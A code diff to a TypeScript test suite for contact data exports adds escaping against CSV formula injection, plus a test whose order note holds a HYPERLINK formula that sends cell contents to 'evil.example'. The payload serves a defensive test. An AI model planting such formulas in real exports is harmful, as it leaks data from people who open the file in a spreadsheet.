@@ -54,6 +54,7 @@ function parseCsv(text: string): string[][] {
 
 function csvText(value: unknown): string {
   if (value === null || value === undefined) return '';
+  if (typeof value === 'string' && /^[=+\-@\t\r]/.test(value) && !/^[-+]?\d+(\.\d+)?$/.test(value)) return `'${value}`;
   return typeof value === 'object' ? JSON.stringify(value) : String(value);
 }
 
@@ -103,6 +104,9 @@ describe('access and portability exports', () => {
     const contact = await createContact(server, owner, clientId, { email: 'ada@client.example', lastName: 'Lovelace, "Countess"' });
     const bystander = await createContact(server, owner, clientId, { email: 'bob@client.example' });
     await createOrder(server, owner, clientId, { contactId: contact.id, notes: 'Deliver to\nthe back door' });
+    // Typed by someone else, opened by the person in a spreadsheet: the CSV must not let it run as a formula.
+    const formula = '=HYPERLINK("http://evil.example/?"&A1,"Open")';
+    await createOrder(server, owner, clientId, { contactId: contact.id, notes: formula });
     await createOrder(server, owner, clientId, { contactId: bystander.id });
     const otherClient = (await createClient(server, other)).id;
     await createContact(server, other, otherClient, { email: 'ada@client.example' });
@@ -128,7 +132,12 @@ describe('access and portability exports', () => {
     const json = checkArchive(await unzip(file.body), 'contact');
     expect(json.subject).toEqual({ kind: 'contact', id: contact.id });
     expect(json.tables.contact.rows).toEqual([expect.objectContaining({ id: contact.id, email: 'ada@client.example', last_name: 'Lovelace, "Countess"' })]);
-    expect(json.tables.order.rows).toEqual([expect.objectContaining({ contact_id: contact.id, notes: 'Deliver to\nthe back door' })]);
+    expect(json.tables.order.rows).toEqual([
+      expect.objectContaining({ contact_id: contact.id, notes: 'Deliver to\nthe back door' }),
+      expect.objectContaining({ contact_id: contact.id, notes: formula }),
+    ]);
+    const files = await unzip(file.body);
+    expect(parseCsv(files.get('order.csv') ?? '').some((row) => row.includes(`'${formula}`))).toBe(true);
     expect(JSON.stringify(json)).not.toContain(bystander.id);
     expect(JSON.stringify(json)).not.toContain(other.tenantId);
 
